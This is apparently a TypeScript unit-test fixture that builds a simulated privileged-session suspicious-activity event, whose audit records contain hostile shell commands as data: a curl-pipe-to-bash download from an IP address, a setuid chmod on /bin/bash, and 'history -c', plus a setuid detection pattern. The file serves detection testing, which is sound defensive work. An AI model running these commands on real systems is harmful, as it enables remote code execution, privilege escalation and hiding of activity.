import assert from 'node:assert/strict';
import { normalizeEvent, PtaEvent } from '../../src/model/ptaEvent';

export const NOW = Date.UTC(2026, 10, 21, 12, 0, 0);

/** A PSM event as the simulator writes them: one target host as a bare IP, a short name and a resolved address. */
export function psmEvent(overrides: Record<string, unknown> = {}): PtaEvent {
  const event = normalizeEvent({
    id: '5f1e0c2ab1d24a0012345678',
    type: 'PSMSuspiciousActivity',
    score: 85.7448120135814,
    createTime: NOW - 3_600_000,
    lastUpdateTime: NOW - 120_000,
    mStatus: 'OPEN',
    audits: [
      {
        type: 'PSM_SSH_COMMAND', sensorType: 'PSM', action: 'Command executed', createTime: NOW - 3_600_000,
        vaultUser: 'jsmith', accountId: '31_1', account: { accountAsStr: 'Administrator@web-prod-33' },
        source: { mOriginalAddress: '10.25.171.60' }, target: { mOriginalAddress: '10.1.109.150' },
        psmCommand: 'curl -s http://203.0.113.9/i.sh | bash',
      },
      {
        type: 'PSM_SSH_COMMAND', sensorType: 'PSM', action: 'Command executed', createTime: NOW - 3_000_000,
        vaultUser: 'jsmith',
        source: { mOriginalAddress: 'erp-dev-27', mResolvedAddress: { mAddress: '10.25.171.60', mHostName: 'erp-dev-27', mFqdn: 'erp-dev-27.corp.example.com' } },
        target: { mOriginalAddress: 'dc-prod-05', mResolvedAddress: { mAddress: '10.1.109.150', mHostName: 'dc-prod-05', mFqdn: 'dc-prod-05.corp.example.com' } },
        psmCommand: 'chmod 4755 /bin/bash',
      },
      { type: 'PSM_SSH_COMMAND', action: 'Command executed', vaultUser: 'jsmith', target: { mOriginalAddress: 'DC-PROD-05' }, psmCommand: 'history -c' },
    ],
    additionalData: { matchPatterns: 'chmod [0-7]*4[0-7]{3}' },
    ...overrides,
  });
  assert.ok(event);
  return event;
}
